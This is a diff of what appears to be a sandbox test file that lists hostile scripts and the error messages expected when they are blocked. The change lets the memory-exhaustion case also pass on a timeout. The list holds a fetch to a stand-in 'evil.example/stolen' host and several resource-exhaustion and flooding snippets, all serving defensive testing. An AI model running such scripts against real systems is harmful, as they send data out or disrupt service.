@@ -5,7 +5,8 @@ import { storeView } from '../support/view'
 /** What hostile scripts try, and the message that it comes to (none where the attempt simply reaches nothing). */
 const attacks: readonly (readonly [name: string, script: string, message?: RegExp])[] = [
   ['loop', 'for (;;);', /运行时间过长/],
-  ['memory', 'const all = []; for (;;) all.push({})', /内存过多/],
+  // on a busy machine its time is over before its memory is full
+  ['memory', 'const all = []; for (;;) all.push({})', /内存过多|运行时间过长/],
   ['fetch', `fetch('https://evil.example/stolen')`, /fetch/],
   ['document', `document.title = 'hacked'`, /document/],
   ['message', `for (;;) postMessage('flood')`, /postMessage/],
